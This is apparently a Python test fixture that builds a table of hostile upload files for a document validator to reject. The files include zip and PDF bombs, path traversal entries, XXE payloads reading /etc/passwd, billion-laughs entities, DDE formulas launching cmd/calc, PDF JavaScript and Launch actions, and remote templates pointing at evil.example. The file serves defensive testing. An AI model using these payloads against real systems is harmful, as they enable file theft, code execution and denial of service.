"""Files that may not come in, each made here with the one thing that is wrong with it (trust.md 3.8)."""

# ruff: noqa: E501  (a table of one line a file)

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.files.good import (
    CSV,
    OFFICE,
    a_docx,
    a_jpeg,
    a_pdf,
    a_png,
    a_pptx,
    an_odf,
    an_xlsx,
    chunk,
    odf_parts,
    zipped,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = f'xmlns:w="{OFFICE}wordprocessingml/2006/main"'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def changed(package: bytes, more: dict[str, str | bytes], first: str = "") -> bytes:
    """The same package with other or more parts."""
    with zipfile.ZipFile(io.BytesIO(package)) as file:
        parts: dict[str, str | bytes] = {name: file.read(name) for name in file.namelist()}
    parts.update(more)
    return zipped(parts, stored=(first,) if first else ())


def part(package: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(package)) as file:
        return file.read(name).decode()


def in_word(paragraph: str) -> bytes:
    """A Word file with this in its text."""
    made = a_docx()
    return changed(
        made, {"word/document.xml": part(made, "word/document.xml").replace("<w:body>", f"<w:body>{paragraph}")}
    )


def in_a_sheet(cell: str) -> bytes:
    made, name = an_xlsx(), "xl/worksheets/sheet1.xml"
    return changed(
        made, {name: part(made, name).replace("<sheetData>", f'<sheetData><row r="99"><c r="A99">{cell}</c></row>')}
    )


def in_relations(package: bytes, name: str, kind: str, target: str) -> bytes:
    """A part that points to somewhere else."""
    line = f'<Relationship Id="rX" Type="{OFFICE}officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    return changed(package, {name: part(package, name).replace("</Relationships>", f"{line}</Relationships>")})


def field(*pieces: str) -> str:
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    begin, end = ('<w:r><w:fldChar w:fldCharType="' + kind + '"/></w:r>' for kind in ("begin", "end"))
    return f"<w:p>{begin}{said}{end}</w:p>"


def entry(
    name: str, content: bytes = b"x", mode: int = 0, *, unpacked: int | None = None
) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    return info, content


def with_entry(info: zipfile.ZipInfo, content: bytes) -> bytes:
    out = io.BytesIO(a_docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as file:
        file.writestr(info, content)
    return out.getvalue()


def bomb() -> bytes:
    """194 kB that would be 200 MB."""
    return changed(a_docx(), {"word/media/image1.bmp": b"\0" * 190_000_000})


def slow_bomb() -> bytes:
    """Each entry just within the ratio, all of them together too much."""
    piece = b"\0" * 990_000
    return changed(a_docx(), {f"word/media/image{nth}.bmp": piece for nth in range(210)})


def many_entries(many: int) -> bytes:
    out = io.BytesIO(a_docx())
    with zipfile.ZipFile(out, "a") as file:
        for nth in range(many):
            file.writestr(f"word/media/{nth}", b"")
    return out.getvalue()


def patched(package: bytes, name: str, *, offset: int, value: bytes) -> bytes:
    """The directory's line for this entry says something else, `offset` bytes into it."""
    at = package.rfind(b"PK\x01\x02", 0, package.rfind(name.encode()))
    return package[: at + offset] + value + package[at + offset + len(value) :]


def overlapping() -> bytes:
    """Two entries that are the same bytes."""
    made = changed(a_docx(), {"word/a.bin": b"a" * 500, "word/b.bin": b"a" * 500})
    with zipfile.ZipFile(io.BytesIO(made)) as file:
        there = file.getinfo("word/a.bin").header_offset
    return patched(made, "word/b.bin", offset=42, value=struct.pack("<L", there))


def says_less() -> bytes:
    """An entry that unpacks to more than its size says."""
    made = changed(a_docx(), {"word/a.bin": b"a" * 5_000})
    return patched(made, "word/a.bin", offset=24, value=struct.pack("<L", 10))


def twice_the_same() -> bytes:
    made = changed(a_docx(), {"word/documenu.xml": "<a/>"})
    return made.replace(b"word/documenu.xml", b"word/document.xml")


def locked() -> bytes:
    made = changed(a_docx(), {"word/a.bin": b"a" * 50})
    return patched(made, "word/a.bin", offset=8, value=struct.pack("<H", 1))


def a_pdf_with(words: bytes, *, packed: bool = False, extra: bytes = b"") -> bytes:
    """A PDF by hand. `packed`: the words stand in a compressed object stream, where no text search sees them."""
    if packed:
        inside = zlib.compress(b"7 0 << " + words + b" >>")
        body = b"6 0 obj << /Type /ObjStm /N 1 /First 4 " + extra + b" /Length %d >>\nstream\n" % len(inside)
        body += inside + b"\nendstream endobj\n"
    else:
        body = b"6 0 obj << " + words + b" >> endobj\n"
    start = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >> endobj\n2 0 obj << /Type /Pages /Count 0 /Kids [] >> endobj\n"
    return start + body + b"trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n"


SCRIPT = b"/S /JavaScript /JS (app.alert\\(1\\))"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
ODT_LINK = '<text:section><text:section-source xlink:href="https://evil.example/x.odt"/></text:section>'
DRAWN = 'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
SHEET = 'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
LISTENS = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
MACRO_TYPE = 'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"'
MAIN_TYPE = 'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"'


def renamed_docm() -> bytes:
    """A Word file with macros, saved with the ending of one without."""
    made, name = a_docx(), "[Content_Types].xml"
    return changed(made, {name: part(made, name).replace(MAIN_TYPE, MACRO_TYPE)})


def odf_with(more: dict[str, str | bytes]) -> bytes:
    return zipped({**odf_parts("text"), **more}, stored=("mimetype",))


HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "eicar as text": ("virus.txt", lambda: EICAR, "virusscanner"),
    "eicar in Word": ("virus.docx", lambda: changed(a_docx(), {"word/media/image1.png": EICAR}), "virusscanner"),
    "eicar as PDF": ("virus.pdf", lambda: EICAR, "virusscanner"),
    "zip bomb": ("bom.docx", bomb, "pakt uit"),
    "many small bombs": ("bom.docx", slow_bomb, "pakt uit"),
    "zip bomb in a workbook of a chart": ("bom.pptx", lambda: a_pptx(changed(an_xlsx(), {"xl/media/a.bmp": b"\0" * 9_000_000})), "pakt uit"),
    "zip in Word": ("in.docx", lambda: changed(a_docx(), {"word/media/image1.png": zipped({"a": b"a"})}), "ander bestand of object"),
    "zip in a sheet of OpenDocument": ("in.ods", lambda: zipped({**odf_parts("spreadsheet"), "Pictures/a.png": zipped({"a": b"a"})}, stored=("mimetype",)), "ander bestand of object"),
    "workbook in a workbook in a show": ("in.pptx", lambda: a_pptx(changed(an_xlsx(), {"xl/embeddings/a.xlsx": an_xlsx()})), "ander bestand of object"),
    "100 000 entries": ("veel.docx", lambda: many_entries(100_000), "pakt uit"),
    "2 001 entries": ("veel.docx", lambda: many_entries(2_001), "pakt uit"),
    "overlapping entries": ("dubbel.docx", overlapping, "verstopt"),
    "an entry that says it is smaller": ("kleiner.docx", says_less, "pakt uit"),
    "two entries of one name": ("dubbel.docx", twice_the_same, "verstopt"),
    "way up": ("op.docx", lambda: with_entry(*entry("word/../../../etc/cron.d/x")), "buiten het bestand"),
    "absolute path": ("op.docx", lambda: with_entry(*entry("/etc/passwd")), "buiten het bestand"),
    "path of Windows": ("op.xlsx", lambda: changed(an_xlsx(), {"xl\\..\\..\\x.exe": b"x"}), "buiten het bestand"),
    "drive of Windows": ("op.docx", lambda: with_entry(*entry("C:/x.txt")), "buiten het bestand"),
    "link": ("link.docx", lambda: with_entry(*entry("word/link", b"/etc/passwd", stat.S_IFLNK | 0o777)), "buiten het bestand"),
    "device": ("apparaat.docx", lambda: with_entry(*entry("word/dev", b"", stat.S_IFCHR | 0o666)), "buiten het bestand"),
    "password on an entry": ("slot.docx", locked, "versleuteld"),
    "something before the zip": ("voor.docx", lambda: PAGE + a_docx(), "geen docx"),
    "something after the zip": ("na.docx", lambda: a_docx() + b"MZ", "verstopt"),
    "a comment in the zip": ("na.docx", lambda: a_docx()[:-2] + b"\x04\x00<x/>", "verstopt"),
    "half a zip": ("half.docx", lambda: a_docx()[:9_000], "beschadigd"),
    "docm renamed": ("macro.docx", renamed_docm, "macro's"),
    "docm": ("macro.docm", renamed_docm, "zonder macro's"),
    "macros in Word": ("macro.docx", lambda: changed(a_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macro's"),
    "macros in Excel": ("macro.xlsx", lambda: changed(an_xlsx(), {"xl/vbaProject.bin": b"x"}), "macro's"),
    "old macros in Excel": ("macro.xlsx", lambda: changed(an_xlsx(), {"xl/macrosheets/sheet1.xml": "<a/>"}), "macro's"),
    "ActiveX": ("knop.docx", lambda: changed(a_docx(), {"word/activeX/activeX1.xml": "<a/>"}), "macro's"),
    "object in Word": ("object.docx", lambda: changed(a_docx(), {"word/embeddings/x.bin": b"\xd0\xcf\x11\xe0\xa1\xb1"}), "ander bestand of object"),
    "program in Word": ("programma.docx", lambda: changed(a_docx(), {"word/media/image1.png": b"MZ\x90\x00"}), "ander bestand of object"),
    "template from elsewhere": ("sjabloon.docx", lambda: in_relations(a_docx(), "word/_rels/document.xml.rels", "attachedTemplate", "https://evil.example/x.dotm"), "van elders"),
    "picture from elsewhere": ("beeld.docx", lambda: in_relations(a_docx(), "word/_rels/document.xml.rels", "image", "https://evil.example/x.png"), "van elders"),
    "share of Windows": ("deel.docx", lambda: in_relations(a_docx(), "word/_rels/document.xml.rels", "frame", "\\\\evil.example\\x"), "van elders"),
    "workbook from elsewhere": ("koppeling.xlsx", lambda: in_relations(an_xlsx(), "xl/_rels/workbook.xml.rels", "externalLinkPath", "file:///x.xlsx"), "van elders"),
    "link that is a script": ("klik.docx", lambda: in_relations(a_docx(), "word/_rels/document.xml.rels", "hyperlink", "javascript:alert(1)"), "macro's"),
    "DDE in Word": ("dde.docx", lambda: in_word(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ')), "van elders"),
    "DDE in pieces": ("dde.docx", lambda: in_word(field(" DD", "EA", "UTO cmd")), "van elders"),
    "DDE in characters": ("dde.docx", lambda: in_word(field("&#68;&#68;E cmd")), "van elders"),
    "DDE in a simple field": ("dde.docx", lambda: in_word('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'), "van elders"),
    "text from elsewhere": ("tekst.docx", lambda: in_word(field(' INCLUDETEXT "\\\\\\\\evil\\\\x" ')), "van elders"),
    "DDE in Excel": ("dde.xlsx", lambda: in_a_sheet("<f>cmd|'/C calc'!A0</f>"), "DDE"),
    "DDE in Excel in characters": ("dde.xlsx", lambda: in_a_sheet("<f>cmd&#x7C;'/C calc'!A0</f>"), "DDE"),
    "data link in Excel": ("dde.xlsx", lambda: changed(an_xlsx(), {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}), "DDE"),
    "DDE in CSV": ("dde.csv", lambda: CSV.encode() + b"=cmd|' /C calc'!A0\n", "DDE"),
    "DDE in a cell of CSV": ("dde.csv", lambda: b"a;b\n1;\"@SUM(1+1)*cmd|' /C calc'!A0\"\n", "DDE"),
    "DDE in CSV after much that is empty": ("dde.csv", lambda: b"a\t\t \n \t" + b" " * 400 + b"=cmd|' /C calc'!A0\n", "DDE"),
    "DDE in CSV of Excel": ("dde.csv", lambda: "a\n-2+3+cmd|' /C calc'!A0\n".encode("utf-16"), "DDE"),
    "XXE in Word": ("xxe.docx", lambda: changed(a_docx(), {"word/footnotes.xml": f"{OUTSIDE}<a>&x;</a>"}), "DTD"),
    "XXE in the relations": ("xxe.xlsx", lambda: changed(an_xlsx(), {"xl/_rels/workbook.xml.rels": f"{OUTSIDE}<a>&x;</a>"}), "DTD"),
    "XXE in the kinds of parts": ("xxe.pptx", lambda: changed(a_pptx(), {"[Content_Types].xml": f"{OUTSIDE}<a>&x;</a>"}), "DTD"),
    "billion laughs in Excel": ("lach.xlsx", lambda: changed(an_xlsx(), {"xl/sharedStrings.xml": f"{LAUGHS}<a>&c;</a>"}), "DTD"),
    "billion laughs in OpenDocument": ("lach.odt", lambda: odf_with({"content.xml": f"{LAUGHS}<a>&c;</a>"}), "DTD"),
    "XXE in a drawing in OpenDocument": ("xxe.odt", lambda: odf_with({"Pictures/a.svg": f"{OUTSIDE}<svg>&x;</svg>"}), "DTD"),
    "XML in another coding": ("utf7.docx", lambda: changed(a_docx(), {"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}), "beschadigd"),
    "XML in UTF-16": ("utf16.xlsx", lambda: changed(an_xlsx(), {"xl/worksheets/sheet2.xml": "<a/>".encode("utf-16-le")}), "beschadigd"),
    "broken XML": ("stuk.docx", lambda: changed(a_docx(), {"word/document.xml": "<a>"}), "beschadigd"),
    "Excel called Word": ("cijfers.docx", an_xlsx, "beschadigd"),
    "OpenDocument text called sheet": ("tekst.ods", lambda: an_odf("text"), "beschadigd"),
    "OpenDocument with packed kind": ("tekst.odt", lambda: zipped(odf_parts("text")), "beschadigd"),
    "macros in OpenDocument": ("macro.odt", lambda: odf_with({"Basic/Standard/Module1.xml": "<a/>"}), "macro's"),
    "Python in OpenDocument": ("macro.odt", lambda: odf_with({"Scripts/python/x.py": "import os"}), "macro's"),
    "event in OpenDocument": ("macro.odt", lambda: an_odf("text", '<script:event-listener script:language="ooo:script"/>', LISTENS), "macro's"),
    "script address in OpenDocument": ("macro.odt", lambda: an_odf("text", '<text:a xlink:href="vnd.sun.star.script:x"/>'), "macro's"),
    "section from elsewhere": ("deel.odt", lambda: an_odf("text", ODT_LINK), "van elders"),
    "picture from elsewhere in OpenDocument": ("beeld.odp", lambda: an_odf("presentation", '<draw:image xlink:href="//evil.example/a.png"/>', DRAWN), "van elders"),
    "DDE in OpenDocument": ("dde.ods", lambda: an_odf("spreadsheet", '<table:dde-links/>', SHEET), "DDE"),
    "DDE formula in OpenDocument": ("dde.ods", lambda: an_odf("spreadsheet", '<table:c table:formula="of:=DDE(&quot;a&quot;)"/>', SHEET), "DDE"),
    "password on OpenDocument": ("slot.odt", lambda: odf_with({"META-INF/manifest.xml": '<m:x xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:x>'}), "versleuteld"),
    "SVG": ("tekening.svg", lambda: SVG, "Dit soort bestand"),
    "SVG with XXE": ("tekening.svg", lambda: OUTSIDE.encode() + b"<svg>&x;</svg>", "Dit soort bestand"),
    "SVG called PNG": ("tekening.png", lambda: SVG, "geen png"),
    "SVG called text": ("tekening.txt", lambda: SVG, "tekens"),
    "SVG without a header called text": ("tekening.txt", lambda: SVG[21:], "webpagina"),
    "HTML called PDF": ("pagina.pdf", lambda: PAGE, "geen pdf"),
    "HTML called text": ("pagina.txt", lambda: b"\xef\xbb\xbf \n" + PAGE, "webpagina"),
    "HTML": ("pagina.html", lambda: PAGE, "Dit soort bestand"),
    "PDF and HTML in one": ("twee.pdf", lambda: b"%PDF-1.7\n" + PAGE + a_pdf_with(b"")[9:], "verstopt"),
    "PDF after a script": ("twee.pdf", lambda: b"/*" + a_pdf_with(b"") + b"*/alert(1)", "geen pdf"),
    "PDF and zip in one": ("twee.pdf", lambda: a_pdf() + zipped({"a": b"a"}), "verstopt"),
    "PDF with something after it": ("twee.pdf", lambda: a_pdf() + b"MZ" * 20, "verstopt"),
    "PNG and zip in one": ("twee.png", lambda: a_png() + zipped({"a": b"a"}), "verstopt"),
    "PNG with something after it": ("twee.png", lambda: a_png() + PAGE, "verstopt"),
    "JPEG and zip in one": ("twee.jpg", lambda: a_jpeg() + zipped({"a": b"a"}), "verstopt"),
    "PDF with JavaScript": ("script.pdf", lambda: a_pdf_with(SCRIPT), "macro's"),
    "PDF with JavaScript in disguise": ("script.pdf", lambda: a_pdf_with(b"/S /J#61vaScr#69pt /JS (x)"), "macro's"),
    "PDF with packed JavaScript": ("script.pdf", lambda: a_pdf_with(SCRIPT, packed=True), "macro's"),
    "PDF that packs otherwise": ("script.pdf", lambda: a_pdf_with(SCRIPT, packed=True, extra=b"/Filter [/ASCII85Decode /FlateDecode]"), "versleuteld"),
    "PDF that starts a program": ("start.pdf", lambda: a_pdf_with(b"/S /Launch /F (cmd.exe)"), "macro's"),
    "PDF with a file in it": ("in.pdf", lambda: a_pdf_with(b"/Type /EmbeddedFile"), "ander bestand of object"),
    "PDF with a form that is sent": ("formulier.pdf", lambda: a_pdf_with(b"/S /SubmitForm /F (https://evil.example)"), "macro's"),
    "PDF with a password": ("slot.pdf", lambda: a_pdf_with(b"/Encrypt 5 0 R"), "versleuteld"),
    "PDF bomb": ("bom.pdf", lambda: pdf_bomb(), "pakt uit"),
    "half a PDF": ("half.pdf", lambda: a_pdf()[:3_000], "beschadigd"),
    "PDF of a header": ("kop.pdf", lambda: b"%PDF-1.7\n", "beschadigd"),
    "PNG of 50 000 × 50 000": ("groot.png", lambda: a_png(50_000, 50_000), "beeldpunten"),
    "PNG of 20 000 × 20 000": ("groot.png", lambda: a_png(20_000, 20_000), "beeldpunten"),
    "JPEG of 60 000 × 60 000": ("groot.jpg", lambda: a_jpeg(60_000, 60_000), "beeldpunten"),
    "PNG without a size": ("niets.png", lambda: a_png(0, 8), "beschadigd"),
    "half a PNG": ("half.png", lambda: a_png()[:-20], "beschadigd"),
    "PNG of which a piece is too long": ("lang.png", lambda: a_png()[:33] + b"\xff\xff\xff\xff" + a_png()[37:], "beschadigd"),
    "PNG that begins otherwise": ("kop.png", lambda: a_png()[:8] + chunk(b"tEXt", b"x") + a_png()[8:], "beschadigd"),
    "half a JPEG": ("half.jpg", lambda: a_jpeg()[:-10], "beschadigd"),
    "JPEG without a frame": ("kader.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x04ab\xff\xd9", "beschadigd"),
    "PNG called JPEG": ("kaart.jpg", a_png, "geen jpg"),
    "JPEG called PDF": ("foto.pdf", a_jpeg, "geen pdf"),
    "program": ("zet-op.exe", lambda: b"MZ\x90\x00", "Dit soort bestand"),
    "program called text": ("lees.txt", lambda: b"MZ" + b"x" * 90, "tekens"),
    "program called Excel": ("cijfers.xlsx", lambda: b"MZ\x90\x00" * 20, "geen xlsx"),
    "old Word": ("oud.doc", lambda: b"\xd0\xcf\x11\xe0", "oud Office-formaat"),
    "old Word called new": ("oud.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "geen docx"),
    "archive": ("alles.zip", lambda: zipped({"a.txt": b"a"}), "archief"),
    "no ending": ("zonder", lambda: b"tekst", "Dit soort bestand"),
    "two endings": ("verslag.pdf.exe", a_pdf, "Dit soort bestand"),
    "nothing called text": ("leeg.txt", lambda: b"", "leeg"),
    "nothing called PDF": ("leeg.pdf", lambda: b"", "leeg"),
    "nothing called Word": ("leeg.docx", lambda: b"", "leeg"),
    "NUL in text": ("nul.txt", lambda: b"abc\x00def", "tekens"),
    "escapes in text": ("kleur.md", lambda: b"\x1b[31mrood\x1b[0m", "tekens"),
    "bytes that are no text": ("ruis.csv", lambda: bytes(range(256)) * 20, "tekens"),
    "half a character in UTF-16": ("half.txt", lambda: "tekst".encode("utf-16") + b"x", "beschadigd"),
}  # fmt: skip
"""What it is: the name it is sent under, how it is made, and a word of the sentence that refuses it."""


def pdf_bomb() -> bytes:
    inside = zlib.compress(b"1 0 " + b"\0" * 210_000_000, 9)
    return a_pdf_with(b"").replace(
        b"trailer", b"8 0 obj << /Length 1 >>\nstream\n" + inside + b"\nendstream endobj\ntrailer"
    )
